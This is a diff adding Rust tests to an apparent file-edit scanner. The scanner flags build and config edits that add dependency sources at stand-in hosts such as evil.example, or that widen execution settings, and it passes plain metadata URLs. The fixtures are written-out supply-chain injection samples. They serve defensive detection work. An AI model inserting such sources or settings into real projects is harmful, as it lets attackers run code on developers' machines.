@@ -811,3 +811,179 @@ fn start_up_files_of_interactive_tools_are_code() {
     ];
     table(cases);
 }
+
+/// [`scan_reason`] of an edit to a file that holds `before` now.
+fn scan_over(path: &str, before: &str, text: &str) -> String {
+    let t = tempfile::tempdir().unwrap();
+    let base = t.path().canonicalize().unwrap();
+    let home = base.join("home");
+    let ws = home.join("proj");
+    std::fs::create_dir_all(&ws).unwrap();
+    let workspace = Workspace::new(&ws, &[]);
+    let floor = FloorCtx {
+        home: home.clone(),
+        self_paths: vec![base.join("gh")],
+        project_root: ws.clone(),
+        harness: Vec::new(),
+        credentials: Vec::new(),
+    };
+    let ctx = JudgeCtx {
+        home: &home,
+        cwd: &ws,
+        workspace: &workspace,
+        floor: &floor,
+        baseline: &NoBaseline,
+    };
+    let p = ws.join(path);
+    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+    std::fs::write(&p, before).unwrap();
+    match scan_edit(&p, &[text.to_string()], &ctx) {
+        Some(r) => format!("risky: {}", r.found),
+        None => "clean".into(),
+    }
+}
+
+#[test]
+fn a_new_dependency_source_is_asked_about_and_metadata_urls_are_not() {
+    let cases: &[(&str, &str, &str)] = &[
+        // Sources the next build fetches code from, in each ecosystem's spelling.
+        (
+            "project/plugins.sbt",
+            "addSbtPlugin(\"com.evil\" % \"sbt-evil\" % \"1.0\")\nresolvers += \"evil\" at \"https://evil.example/maven\"\n",
+            "risky",
+        ),
+        ("build.sbt", "externalResolvers := Seq(\"r\" at \"https://evil.example/m2\")\n", "risky"),
+        (
+            "MODULE.bazel",
+            "bazel_dep(name='rules_evil', version='1.0')\narchive_override(module_name='rules_evil', urls=['https://evil.example/r.tgz'])\n",
+            "risky",
+        ),
+        (
+            "MODULE.bazel",
+            "git_override(module_name = \"x\", remote = \"https://github.com/evil/x\", commit = \"abc\")\n",
+            "risky",
+        ),
+        (
+            "WORKSPACE",
+            "http_archive(\n    name = \"evil\",\n    urls = [\n        \"https://evil.example/e.tar.gz\",\n    ],\n)\n",
+            "risky",
+        ),
+        ("deps.edn", "{:deps {evil/x {:git/url \"https://github.com/evil/x\" :git/sha \"0123\"}}}\n", "risky"),
+        ("deps.edn", "{:mvn/repos {\"evil\" {:url \"https://evil.example/maven\"}}}\n", "risky"),
+        ("stack.yaml", "resolver: lts-22.0\nextra-deps:\n- git: https://github.com/evil/x\n  commit: 0123\n", "risky"),
+        ("stack.yaml", "extra-deps:\n- url: https://evil.example/x-1.0.tar.gz\n", "risky"),
+        ("pubspec.yaml", "name: x\ndependencies:\n  evil:\n    git: https://github.com/evil/x\n", "risky"),
+        ("pubspec.yaml", "name: x\ndependencies:\n  evil:\n    hosted: https://evil.example\n    version: ^1.0.0\n", "risky"),
+        (
+            "build.zig.zon",
+            ".{ .name = \"x\", .dependencies = .{ .evil = .{ .url = \"https://evil.example/e.tgz\", .hash = \"1220aa\" } } }\n",
+            "risky",
+        ),
+        (
+            "Chart.yaml",
+            "apiVersion: v2\nname: x\ndependencies:\n- name: evil\n  version: 1.0.0\n  repository: https://evil.example/charts\n",
+            "risky",
+        ),
+        ("Chart.yaml", "dependencies:\n  - name: redis\n    repository: oci://registry.example/charts\n", "risky"),
+        (".dvc/config", "[core]\n    remote = evil\n['remote \"evil\"']\n    url = s3://evil-bucket/x\n", "risky"),
+        (".dvc/config", "['remote \"storage\"']\n    url = ssh://evil.example/data\n", "risky"),
+        ("Cargo.toml", "[dependencies]\nevil = { git = \"https://github.com/evil/x\" }\n", "risky"),
+        ("package.json", "{\"name\":\"x\",\"homepage\":\"https://x.example\",\"dependencies\":{\"evil\":\"https://evil.example/e.tgz\"}}", "risky"),
+        ("package.json", "{\"name\":\"x\",\"dependencies\":{\"evil\":\"github:evil/x\"}}", "risky"),
+        ("package.json", "{\"devDependencies\":{\"evil\":\"git@github.com:evil/x.git\"}}", "risky"),
+        ("pyproject.toml", "[[tool.uv.index]]\nname = \"evil\"\nurl = \"https://evil.example/simple\"\n", "risky"),
+        ("pyproject.toml", "[project]\ndependencies = [\"x @ git+https://github.com/evil/x\"]\n", "risky"),
+        ("build.gradle.kts", "repositories {\n    maven { url = uri(\"https://evil.example/maven\") }\n}\n", "risky"),
+        // Metadata: where the project lives, not where code comes from.
+        (
+            "Cargo.toml",
+            "[package]\nname = \"x\"\nrepository = \"https://github.com/me/x\"\nhomepage = \"https://x.example\"\ndocumentation = \"https://docs.rs/x\"\n\n[dependencies]\nserde = { version = \"1\", features = [\"derive\"] }\n",
+            "clean",
+        ),
+        (
+            "package.json",
+            "{\n  \"name\": \"x\",\n  \"homepage\": \"https://github.com/me/x#readme\",\n  \"bugs\": {\n    \"url\": \"https://github.com/me/x/issues\"\n  },\n  \"repository\": {\n    \"type\": \"git\",\n    \"url\": \"git+https://github.com/me/x.git\"\n  },\n  \"funding\": \"https://github.com/sponsors/me\",\n  \"dependencies\": {\"react\": \"^18.2.0\"}\n}\n",
+            "clean",
+        ),
+        (
+            "pyproject.toml",
+            "[project]\nname = \"x\"\ndependencies = [\"requests>=2\"]\n\n[project.urls]\nHomepage = \"https://x.example\"\n\"Bug Tracker\" = \"https://github.com/me/x/issues\"\nSource = \"https://github.com/me/x\"\n",
+            "clean",
+        ),
+        (
+            "pubspec.yaml",
+            "name: x\nhomepage: https://x.example\nrepository: https://github.com/me/x\nissue_tracker: https://github.com/me/x/issues\ndependencies:\n  http: ^1.1.0\n",
+            "clean",
+        ),
+        (
+            "Chart.yaml",
+            "apiVersion: v2\nname: x\nhome: https://x.example\nsources:\n  - https://github.com/me/x\nicon: https://x.example/icon.png\nmaintainers:\n  - name: me\n    url: https://me.example\n",
+            "clean",
+        ),
+        ("build.sbt", "libraryDependencies += \"org.scalameta\" %% \"munit\" % \"0.7.29\" % Test\nhomepage := Some(url(\"https://x.example\"))\n", "clean"),
+        ("deps.edn", "{:paths [\"src\"] :deps {org.clojure/clojure {:mvn/version \"1.11.1\"}}}\n", "clean"),
+        ("stack.yaml", "resolver: lts-22.0\npackages:\n- .\nextra-deps:\n- acme-missiles-0.3\n", "clean"),
+        ("MODULE.bazel", "module(name = \"x\", version = \"0.1\")\nbazel_dep(name = \"rules_go\", version = \"0.46.0\")\n", "clean"),
+        ("hugo.toml", "baseURL = 'https://example.org/'\n[params]\n  github = 'https://github.com/me'\n", "clean"),
+        ("mkdocs.yml", "site_url: https://x.example\nrepo_url: https://github.com/me/x\n", "clean"),
+        // Data with links, in a file read by format only.
+        ("tests/fixtures/user.json", "{\"login\": \"octocat\", \"html_url\": \"https://github.com/octocat\"}\n", "clean"),
+    ];
+    table(cases);
+}
+
+#[test]
+fn a_source_the_file_already_names_is_not_new() {
+    let chart = "dependencies:\n- name: redis\n  version: 17.0.0\n  repository: https://charts.bitnami.com/bitnami\n";
+    let bumped = chart.replace("17.0.0", "17.1.0");
+    assert_eq!(scan_over("Chart.yaml", chart, &bumped), "clean");
+    let other = bumped.replace("charts.bitnami.com/bitnami", "evil.example/charts");
+    assert!(
+        scan_over("Chart.yaml", chart, &other).contains("evil.example"),
+        "a changed repository is new"
+    );
+}
+
+#[test]
+fn settings_that_widen_execution_or_name_an_outside_program_are_asked_about() {
+    let cases: &[(&str, &str, &str)] = &[
+        ("hugo.toml", "[security.exec]\nallow=['.*']\n", "risky"),
+        ("config/_default/security.yaml", "exec:\n  allow:\n    - '^evil$'\n", "risky"),
+        ("tool.json", "{\"blockedCommands\": []}", "risky"),
+        ("hugo.toml", "[security]\nenableInlineShortcodes = false\n[markup.goldmark]\n", "clean"),
+        (".zed/settings.json", "{\"lsp\":{\"rust-analyzer\":{\"binary\":{\"path\":\"/tmp/evil\"}}}}\n", "risky"),
+        (".zed/settings.json", "{\"tab_size\": 4, \"lsp\": {\"rust-analyzer\": {\"initialization_options\": {\"check\": {\"command\": \"clippy\"}}}}}\n", "clean"),
+        ("cabal.project", "packages: .\nprogram-locations\n  ghc-location: /tmp/evil/ghc\n", "risky"),
+        ("cabal.project", "packages: .\ntests: True\n", "clean"),
+        ("shadow-cljs.edn", "{:source-paths [\"/tmp/evil\"] :builds {}}\n", "risky"),
+        ("shadow-cljs.edn", "{:source-paths [\"src/main\"] :dependencies [[reagent \"1.2.0\"]]}\n", "clean"),
+        ("kustomization.yaml", "generators:\n- gen.yaml\n", "risky"),
+        ("kustomization.yaml", "resources:\n- deploy.yaml\nconfigMapGenerator:\n- name: app\n  literals:\n  - A=1\n", "clean"),
+        (".config/dotnet-tools.json", "{\"version\":1,\"isRoot\":true,\"tools\":{\"evil-tool\":{\"version\":\"1.0.0\",\"commands\":[\"dotnet-evil\"]}}}\n", "risky"),
+    ];
+    table(cases);
+}
+
+#[test]
+fn a_bazel_load_of_starlark_the_workspace_lacks_is_asked_about() {
+    assert!(
+        scan_reason("WORKSPACE", "load('//:evil.bzl','evil')\nevil(name='x')\n")
+            .contains("//:evil.bzl")
+    );
+    assert!(scan_reason("BUILD.bazel", "load(':defs.bzl', 'x')\n").contains(":defs.bzl"));
+    assert_eq!(
+        scan_beside(
+            "WORKSPACE",
+            "load('//tools:defs.bzl', 'x')\nx(name='y')\n",
+            &["tools/defs.bzl"]
+        ),
+        "clean"
+    );
+    assert_eq!(
+        scan_reason(
+            "MODULE.bazel",
+            "bazel_dep(name = \"rules_go\", version = \"0.46.0\")\n"
+        ),
+        "clean"
+    );
+}
